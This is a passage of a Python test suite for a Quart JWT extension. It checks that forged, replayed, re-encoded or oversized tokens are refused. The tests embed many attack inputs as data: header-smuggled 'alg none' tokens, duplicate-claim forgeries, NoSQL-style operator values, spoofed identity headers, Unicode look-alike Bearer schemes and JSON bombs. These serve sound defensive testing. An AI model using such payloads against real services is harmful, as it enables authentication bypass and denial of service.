        f"x.jwt={good}",
        f"a=b;jwt={good}",
    ):
        assert (await kept_out(app, f"/protected?{query}"))[0] == 401
    await let_in(app, f"/protected?jwt={good}&jwt={forged}")
    # Python's json takes the last of two members.
    json_type = {"Content-Type": "application/json"}
    body = '{{"access_token":"{}","access_token":"{}"}}'
    last_bad = {"method": "POST", "headers": json_type, "data": body.format(good, forged)}
    assert await kept_out(app, **last_bad) == (422, {"msg": BAD_SIGNATURE})
    await let_in(app, method="POST", headers=json_type, data=body.format(forged, good))


async def test_token_that_is_no_string_in_a_json_body_is_refused() -> None:
    app = make_app(JWT_TOKEN_LOCATION=["json"])
    good = hs_token(access_claims())
    for value in (
        [good],
        {"$gt": ""},
        {"token": good},
        True,
        1,
        1.5,
        good.split("."),
        [[good]],
        "",
    ):
        for path in ("/protected", "/optional"):
            answer = await kept_out(app, path, method="POST", json={"access_token": value})
            assert answer[0] == 422
    for body in ([good], good, None, {"Access_Token": good}, {"access_token ": good}):
        assert (await kept_out(app, method="POST", json=body))[0] == 401
    await let_in(app, method="POST", json={"access_token": good})


async def test_request_that_only_looks_harmless_needs_a_token(app: Quart) -> None:
    """HEAD runs the view of GET, and odd paths or hosts reach the same view."""
    await let_in(app, headers=bearer(hs_token(access_claims())))
    ran = list(app.calls)
    client = app.test_client()
    for method in ("HEAD", "GET", "POST", "get", "head"):
        response = await client.open("/protected", method=method)
        assert response.status_code == 401
    for name in ("X-Forwarded-User", "X-Remote-User", "Remote-User", "X-Original-URL"):
        assert (await kept_out(app, headers={name: "alice"}))[0] == 401
    assert app.calls == ran


# --- Time and replay -----------------------------------------------------------------------------


def logout_app(**options: Any) -> Quart:
    app = make_app(JWT_BLACKLIST_ENABLED=True, **options)
    revoked: set[str] = set()
    manager_of(app).token_in_blacklist_loader(lambda claims: claims["jti"] in revoked)

    @app.delete("/logout")
    @qje.jwt_required(verify_type=False)
    async def logout() -> dict[str, Any]:
        revoked.add(qje.get_raw_jwt()["jti"])
        app.calls.append("logout")
        return {"identity": qje.get_jwt_identity()}

    return app


@pytest.mark.parametrize("signer", [None, RSA, P256, ED25519], ids=str)
async def test_token_replayed_after_logout_is_refused(signer: Signer | None) -> None:
    options = {"JWT_SIGNATURE_CACHE_SIZE": 10}
    if signer is not None:
        options |= {
            "JWT_SECRET_KEY": None,
            "JWT_ALGORITHM": signer.algorithm,
            "JWT_PUBLIC_KEY": public_pem(private_key(signer.kind)),
        }
    app = logout_app(**options)

    def token(**claims: Any) -> str:
        return hs_token(access_claims(**claims)) if signer is None else signed(signer, **claims)

    access, refresh = token(jti="1"), token(jti="2", type="refresh", fresh=...)
    other = token(jti="3")
    await let_in(app, headers=bearer(access))
    await let_in(app, "/refresh", headers=bearer(refresh))
    for text, path in ((access, "/protected"), (refresh, "/refresh")):
        await let_in(app, "/logout", method="DELETE", headers=bearer(text))
        for _ in range(2):
            answer = await kept_out(app, path, headers=bearer(text))
            assert answer == (401, {"msg": "Token has been revoked"})
        assert (await kept_out(app, "/optional", headers=bearer(text)))[0] in (401, 422)
    await let_in(app, headers=bearer(other))


async def test_token_respelled_after_logout_is_refused() -> None:
    """Another text of the same token must not look like another token to a blacklist."""
    app = logout_app()
    token, other = hs_token(access_claims(jti="1")), hs_token(access_claims(jti="2"))
    header, payload, signature = token.split(".")
    # The last character has bits to spare: this one decodes to the same bytes.
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    loose = signature[:-1] + alphabet[alphabet.index(signature[-1]) | 1]
    assert loose != signature
    spellings = [
        *(f"{token}=", f"{token}==", f"{header}=.{payload}.{signature}", f"{token}%3D"),
        *(f"{header}.{payload}.{loose}", f"{token}.", f'"{token}"', f"{token}A"),
        *(f"{header}.{payload}.\u00a0{signature}", f"{header}.{payload}=.{signature}"),
    ]
    spaced = [f"{token}\t", f"  {token}", f"\t{token} "]
    for scheme in ("Bearer", "bearer", "BEARER"):
        for spelling in spellings:
            status, _ = await kept_out(app, headers={"Authorization": f"{scheme} {spelling}"})
            assert status == 422
        # White space belongs to the header, not to the token.
        for spelling in spaced:
            await let_in(app, headers={"Authorization": f"{scheme} {spelling}"})
    await let_in(app, "/logout", method="DELETE", headers=bearer(token))
    for scheme in ("Bearer", "bearer", "BEARER"):
        for spelling in (*spellings, *spaced, token):
            status, _ = await kept_out(app, headers={"Authorization": f"{scheme} {spelling}"})
            assert status == (422 if spelling in spellings else 401)
    await let_in(app, headers=bearer(other))


async def test_revocation_check_that_fails_lets_nobody_in() -> None:
    """A blacklist that cannot be asked is no blacklist that says no."""
    app = make_app(JWT_BLACKLIST_ENABLED=True)
    down = [True]

    @manager_of(app).token_in_blacklist_loader
    async def ask(claims: dict[str, Any]) -> bool:
        if down[0]:
            raise ConnectionError("the store is away")
        return False

    good = hs_token(access_claims())
    await fails(app, ConnectionError, "the store is away", headers=bearer(good))
    down[0] = False
    await let_in(app, headers=bearer(good))


async def test_callback_that_says_no_is_obeyed_however_it_says_it() -> None:
    """0.1.0 took the coroutine of an async callback for a yes, and let everybody in."""
    good = hs_token(access_claims(user_claims={"role": "user"}))

    def plain(claims: dict[str, Any]) -> bool:
        return claims["role"] == "admin"

    async def coroutine(claims: dict[str, Any]) -> bool:
        return claims["role"] == "admin"

    class Later:
        def __init__(self, claims: dict[str, Any]) -> None:
            self.claims = claims

        def __await__(self) -> Iterator[Any]:
            yield from ()
            return self.claims["role"] == "admin"

    for callback in (plain, coroutine, Later):
        app = make_app()
        manager_of(app).claims_verification_loader(callback)
        answer = await kept_out(app, headers=bearer(good))
        assert answer == (400, {"msg": "User claims verification failed"})
        await let_in(app, headers=bearer(hs_token(access_claims(user_claims={"role": "admin"}))))


async def test_clock_set_back_makes_no_token_older_than_it_is(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Nothing remembers an earlier verdict: the clock decides, each time anew."""
    start = 1_900_000_000
    app = key_app(RSA, JWT_SIGNATURE_CACHE_SIZE=10)
    token = signed(RSA, iat=start, nbf=start, exp=start + 900)

    async def at(now: int, status: int, message: str | None = None) -> None:
        monkeypatch.setattr(time, "time", lambda: float(now))
        for _ in range(2):
            if status == 200:
                await let_in(app, headers=bearer(token))
            else:
                answer = await kept_out(app, headers=bearer(token))
                assert answer == (status, {"msg": message})

    await at(start, 200)
    await at(start + 899, 200)
    await at(start + 900, 401, "Token has expired")
    # Set back to before the token was made, it is one from the future.
    await at(start - 1, 422, "The token is not yet valid (iat)")
    await at(start - 86_400, 422, "The token is not yet valid (iat)")
    await at(start + 10**9, 401, "Token has expired")
    await at(start + 60, 200)
    await at(start + 900, 401, "Token has expired")


async def test_token_from_the_future_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    now = 1_900_000_000
    monkeypatch.setattr(time, "time", lambda: now + 0.5)
    app = make_app(JWT_DECODE_LEEWAY=5)
    times = {"iat": now, "nbf": now, "exp": now + 900}
    good = hs_token(access_claims(**times))
    await let_in(app, headers=bearer(hs_token(access_claims(**{**times, "nbf": now + 5}))))
    for claim in ("iat", "nbf"):
        attacks = [
            hs_token(access_claims(**{**times, claim: value}))
            for value in (now + 6, now + 6.5, now + 86_400, 2**40, 10**400, 1e308)
        ]
        message = f"The token is not yet valid ({claim})"
        await refused_everywhere(app, good, attacks, message=message)


# --- The signature cache -------------------------------------------------------------------------

CACHED = {"JWT_SIGNATURE_CACHE_SIZE": 10}


@one_signer_per_kind
async def test_signature_cache_does_not_confuse_two_users(signer: Signer) -> None:
    app = key_app(signer, **CACHED)
    names = [f"user{number}" for number in range(30)]
    tokens = {name: signed(signer, identity=name, jti=name) for name in names}
    # More users than places, so that each is forgotten and met again.
    for _ in range(2):
        for name in names:
            await let_in(app, headers=bearer(tokens[name]), identity=name)
            await let_in(app, headers=bearer(tokens[name]), identity=name)
    header, payload, signature = tokens["user29"].split(".")
    _, other_payload, other_signature = tokens["user28"].split(".")
    attacks = [f"{header}.{payload}.{other_signature}", f"{header}.{other_payload}.{signature}"]
    await let_in(app, headers=bearer(tokens["user28"]), identity="user28")
    for token in attacks:
        assert await kept_out(app, headers=bearer(token)) == (422, {"msg": BAD_SIGNATURE})
        async with app.app_context():
            with pytest.raises(jwt.InvalidSignatureError):
                qje.decode_token(token)


@one_signer_per_kind
async def test_signature_cache_does_not_confuse_two_keys(signer: Signer) -> None:
    keys = {name: public_pem(private_key(signer.kind, name)) for name in ("service", "stranger")}
    current = ["service"]
    app = key_app(signer, **CACHED)
    manager_of(app).decode_key_loader(lambda claims, headers: keys[current[0]])
    ours, theirs = signed(signer), signed(signer, owner="stranger", identity="bob")
    for _ in range(2):
        current[0] = "service"
        await refused_everywhere(app, ours, [theirs], message=BAD_SIGNATURE)
        current[0] = "stranger"
        await let_in(app, headers=bearer(theirs), identity="bob")
        answer = await kept_out(app, headers=bearer(ours))
        assert answer == (422, {"msg": BAD_SIGNATURE})
    # The same with the key of the configuration.
    app = key_app(signer, **CACHED)
    await let_in(app, headers=bearer(ours))
    app.config["JWT_PUBLIC_KEY"] = keys["stranger"]
    assert await kept_out(app, headers=bearer(ours)) == (422, {"msg": BAD_SIGNATURE})
    await let_in(app, headers=bearer(theirs), identity="bob")


@one_signer_per_kind
async def test_signature_cache_does_not_confuse_two_apps(signer: Signer) -> None:
    manager = qje.JWTManager()
    apps = []
    for owner in ("service", "stranger"):
        app = key_app(signer, public_pem(private_key(signer.kind, owner)), **CACHED)
        manager.init_app(app)
        apps.append(app)
    ours, theirs = signed(signer), signed(signer, owner="stranger", identity="bob")
    for _ in range(2):
        await let_in(apps[0], headers=bearer(ours))
        await let_in(apps[1], headers=bearer(theirs), identity="bob")
        for app, token in zip(apps, (theirs, ours), strict=True):
            assert await kept_out(app, headers=bearer(token)) == (422, {"msg": BAD_SIGNATURE})


async def test_signature_cache_does_not_confuse_two_algorithms() -> None:
    app = key_app(RSA, JWT_DECODE_ALGORITHMS=["RS256", "RS512", "PS256"], **CACHED)
    token = signed(Signer("RS512", "RSA"))
    header, payload, signature = token.split(".")
    await let_in(app, headers=bearer(token))
    attacks = [
        f"{json_segment({'typ': 'JWT', 'alg': label})}.{payload}.{signature}"
        for label in ("RS256", "PS256")
    ]
    await refused_everywhere(app, signed(RSA), attacks, message=BAD_SIGNATURE)
    await let_in(app, headers=bearer(token))
    # An algorithm that is allowed no longer does not live on in the cache.
    app.config["JWT_DECODE_ALGORITHMS"] = ["RS256"]
    await refused_everywhere(app, signed(RSA), [token], message=NOT_ALLOWED)


# --- Other formats, and odd contents -------------------------------------------------------------


async def test_duplicate_claim_names_are_refused(app: Quart) -> None:
    """Whoever checked the token before us may have read the other one (RFC 7519, section 4)."""
    good = hs_token(access_claims())
    claims = json.dumps(access_claims(), separators=(",", ":"))[1:-1]
    members = [
        *('"identity":"admin"', '"\\u0069dentity":"admin"', '"exp":9999999999', '"fresh":true'),
        *('"type":"access"', '"x":1,"x":2', '"":1,"":1', '"user_claims":1,"user_claims":{}'),
    ]
    attacks = []
    for member in members:
        attacks.append(hs_token(f"{{{claims},{member}}}".encode()))
        attacks.append(hs_token(f"{{{member},{claims}}}".encode()))
    message = "Invalid payload string: duplicate member name"
    await refused_everywhere(app, good, attacks, message=message)
    heads = ['{"alg":"none","alg":"HS256"}', '{"alg":"HS256","\\u0061lg":"none"}']
    heads += ['{"typ":"JWT","alg":"HS256","kid":"a","kid":"b"}']
    attacks = [hs_token(access_claims(), header=head.encode()) for head in heads]
    message = "Invalid header string: duplicate member name"
    await refused_everywhere(app, good, attacks, message=message)


async def test_encrypted_token_is_refused(app: Quart) -> None:
    """Five segments are a JWE, and four or six nothing at all."""
    good = hs_token(access_claims())
    header, payload, signature = good.split(".")
    jwe_headers = [
        {"alg": "dir", "enc": "A256GCM"},
        {"alg": "RSA-OAEP", "enc": "A128CBC-HS256", "zip": "DEF"},
        {**HEADER, "enc": "A256GCM", "zip": "DEF"},
    ]
    attacks = [f"{header}.{payload}.{payload}.{payload}.{signature}"]
    for head in jwe_headers:
        segment = json_segment(head)
        attacks.append(f"{segment}..{b64url(b'v' * 12)}.{payload}.{b64url(b't' * 16)}")
        attacks.append(f"{segment}.{payload}.{signature}.{signature}.{signature}")
    # A good signature over more than two segments.
    for count in (3, 4, 5):
        signing_input = ".".join([header, payload, *[payload] * (count - 2)])
        mac = hmac.new(SECRET.encode(), signing_input.encode(), hashlib.sha256).digest()
        attacks.append(f"{signing_input}.{b64url(mac)}")
    await refused_everywhere(app, good, attacks, message="Invalid payload padding")


async def test_json_serialization_is_refused() -> None:
    """A JWT has the compact form only (RFC 7519, section 1); the JSON forms carry more."""
    app = make_app(JWT_TOKEN_LOCATION=["json", "query_string", "headers"], JWT_HEADER_TYPE="JWT")
    good = hs_token(access_claims())
    header, payload, signature = good.split(".")
    member = {"protected": header, "signature": signature}
    forms: list[dict[str, Any]] = [
        {"payload": payload, **member},
        {"payload": payload, **member, "header": {"alg": "none"}},
        {"payload": payload, "signatures": [member]},
        {"payload": payload, "signatures": [{**member, "signature": ""}, member]},
    ]
    for form in forms:
        text = json.dumps(form, separators=(",", ":"))
        requests: list[dict[str, Any]] = [
            {"method": "POST", "json": {"access_token": form}},
            {"method": "POST", "json": {"access_token": text}},
            {"query_string": {"jwt": text}},
            {"query_string": {"jwt": b64url(text.encode())}},
        ]
        for request in requests:
            for path in ("/protected", "/optional"):
                assert (await kept_out(app, path, **request))[0] == 422
        assert (await kept_out(app, headers={"Authorization": f"JWT {text}"}))[0] == 422
        async with app.app_context():
            for value in (form, text, text.encode(), b64url(text.encode())):
                with pytest.raises(jwt.DecodeError):
                    qje.decode_token(value)
    await let_in(app, method="POST", json={"access_token": good})
    await let_in(app, query_string={"jwt": good})
    await let_in(app, headers={"Authorization": f"JWT {good}"})


async def test_oversized_token_is_refused_before_any_work_is_done_on_it() -> None:
    app = make_app()
    asked: list[str] = []

    def find(claims: dict[str, Any], headers: dict[str, Any]) -> str:
        asked.append("key")
        return SECRET

    manager_of(app).decode_key_loader(find)
    good = hs_token(access_claims())
    await let_in(app, headers=bearer(good))
    asked.clear()
    genuine = hs_token(access_claims(x="y" * 20_000))
    big_header = hs_token(access_claims(), header={**HEADER, "x": "y" * 20_000})
    for token in (genuine, big_header, "A" * 20_000, "." * 20_000, f"{good}{'A' * 20_000}"):
        answer = await kept_out(app, headers=bearer(token))
        assert answer == (422, {"msg": "Token is too long: at most 16384 bytes are accepted"})
    assert asked == []
    await let_in(app, headers=bearer(good))


async def test_json_bomb_is_refused() -> None:
    """Depth and digits that a parser pays for dearly, in the unsigned part and in a signed one."""
    app = make_app(JWT_MAX_TOKEN_SIZE=1_000_000)
    good = hs_token(access_claims())
    deep, digits = b"[" * 100_000 + b"]" * 100_000, b"9" * 100_000
    attacks = []
    for bomb in (deep, digits, b'{"a":' * 50_000 + b"1" + b"}" * 50_000):
        head = b'{"alg":"HS256","x":' + bomb + b"}"
        payload = b'{"identity":"alice","x":' + bomb + b"}"
        attacks += [hs_token(access_claims(), header=head), hs_token(payload)]
        attacks.append(hs_token(access_claims(), header=head, secret=ATTACKERS_SECRET))
    await refused_everywhere(app, good, attacks)


IDENTITIES: list[Any] = [
    *(1, 0, -1, 2**70, 1.0, True, False, None, "", "1", "true", "True", "None", "alice\0", "Alice"),
    *([], ["alice"], {}, {"id": "alice"}, [["alice"]], {"$ne": None}, "alice ", "\u0430lice"),
]


async def test_identity_of_another_type_is_not_taken_for_an_equal_one() -> None:
    """1, 1.0, True and "1" are four identities, whatever Python's == says of them."""
    app = make_app()
    for identity in IDENTITIES:
        token = hs_token(access_claims(identity=identity))
        await let_in(app, headers=bearer(token), identity=identity)
    # A subject is a string (RFC 7519, section 4.1.2), and anything else is refused.
    app = make_app(JWT_IDENTITY_CLAIM="sub")
    good = hs_token(access_claims(identity=..., sub="alice"))
    for identity in IDENTITIES:
        token = hs_token(access_claims(identity=..., sub=identity))
        if isinstance(identity, str):
            await let_in(app, headers=bearer(token), identity=identity)
        else:
            await refused_everywhere(app, good, [token], message="Subject must be a string")


async def test_type_claim_of_another_spelling_is_refused(app: Quart) -> None:
    values: list[Any] = [
        *("", "Access", "ACCESS", " access", "access ", "access\0", "acces", "\uff41ccess"),
        *(["access"], ["access", "refresh"], {"access": True}, True, 1, None, "access,refresh"),
    ]
    attacks = [hs_token(access_claims(type=value)) for value in values]
    message = "Missing or invalid claim: type"
    await refused_everywhere(app, hs_token(access_claims()), attacks, message=message)


def with_claim(name: str, text: str) -> str:
    """A well signed token with a claim that is given as JSON text."""
    claims = json.dumps(access_claims(**{name: ...}), separators=(",", ":"))
    return hs_token(f'{claims[:-1]},"{name}":{text}}}'.encode())


async def test_trick_with_the_expiry_is_refused(app: Quart) -> None:
    good = hs_token(access_claims())
    no_numbers = [
        *("true", "false", "null", '"9999999999"', '""', '"never"', '"1e10"', "[]", "[9999999999]"),
        *("{}", '{"$gt":0}', "NaN", "Infinity", "-Infinity", "1e400", "-1e400", '"Infinity"'),
    ]
    message = "Expiration Time claim (exp) must be an integer."
    attacks = [with_claim("exp", text) for text in no_numbers]
    await refused_everywhere(app, good, attacks, message=message)
    past = ["-1", "0", "-0", "0.5", "1", "1e3", "-1e308", f"-1{'0' * 400}", str(LONG_AGO)]
    attacks = [with_claim("exp", text) for text in past]
    await refused_everywhere(app, good, attacks, status=401, message="Token has expired")
    not_json = ["9999999999 ,", "0x7fffffff", "+9999999999", "9999999999L", "1_000_000_000_000"]
    attacks = [with_claim("exp", text) for text in not_json]
    await refused_everywhere(app, good, attacks)
    # Numbers that are merely large are dates, far away.
    for text in ("9999999999", "9999999999.5", "1e300", str(2**63), f"1{'0' * 400}"):
        await let_in(app, headers=bearer(with_claim("exp", text)))


async def test_trick_with_the_other_time_claims_is_refused(app: Quart) -> None:
    good = hs_token(access_claims())
    no_numbers = ["true", "null", '"0"', '""', "[]", "{}", "NaN", "Infinity", "-Infinity", "1e400"]
    for claim, message in (
        ("iat", "Issued At claim (iat) must be an integer."),
        ("nbf", "Not Before claim (nbf) must be an integer."),
    ):
        attacks = [with_claim(claim, text) for text in no_numbers]
        await refused_everywhere(app, good, attacks, message=message)
        await let_in(app, headers=bearer(with_claim(claim, "-1")))


SCHEMES = [
    *("Basic", "Digest", "JWT", "Token", "Bearer:", "Bearer=", "Bear", "Bearerr", "BearerBearer"),
    *("\uff22earer", "Be\u0430rer", "Bea\u00adrer", "\u200bBearer", "Bearer\u00a0", "B\u0435arer"),
    *("Bearer\x0b", "Bearer\x1c", '"Bearer"', "Bearer\\", "Bearer;"),
]


async def test_scheme_that_only_looks_like_bearer_is_refused(app: Quart) -> None:
    good = hs_token(access_claims())
    for scheme in ("Bearer", "bearer", "BEARER", "bEaReR"):
        await let_in(app, headers={"Authorization": f"{scheme} {good}"})
    for scheme in SCHEMES:
        # As the bytes come in from the wire.
        value = f"{scheme} {good}".encode().decode("latin-1")
        status, body = await kept_out(app, headers={"Authorization": value})
        assert status == 422, scheme
        assert body == {"msg": "Bad Authorization header. Expected value 'Bearer <JWT>'"}
    # U+212A, whose lower case is an ASCII k, in a scheme that has one.
    app = make_app(JWT_HEADER_TYPE="Token")
    value = f"To\u212aen {good}".encode().decode("latin-1")
    assert (await kept_out(app, headers={"Authorization": value}))[0] == 422
    await let_in(app, headers={"Authorization": f"tOKEN {good}"})
    # A header of another name is not looked at.
    for name in ("X-Authorization", "Proxy-Authorization", "Authorization2"):
        assert (await kept_out(app, headers={name: f"Token {good}"}))[0] == 401


async def test_text_in_another_encoding_is_refused(app: Quart) -> None:
    """A filter that reads UTF-8 does not see what a decoder that guesses would find."""
    good = hs_token(access_claims())
    claims = json.dumps(access_claims(identity="admin"))
    attacks = []
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "utf-7"):
        raw = claims.replace("{", "+AHs-", 1).encode() if encoding == "utf-7" else None
        attacks.append(hs_token(raw or claims.encode(encoding)))
    for overlong in (b"\xc0\xaf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xff", b"\xf5\x80\x80\x80"):
        attacks.append(hs_token(b'{"identity":"' + overlong + b'","type":"access"}'))
    await refused_everywhere(app, good, attacks)
    heads = [json.dumps(HEADER).encode(encoding) for encoding in ("utf-16", "utf-8-sig", "utf-32")]
    attacks = [hs_token(access_claims(), header=head) for head in heads]
    await refused_everywhere(app, good, attacks)
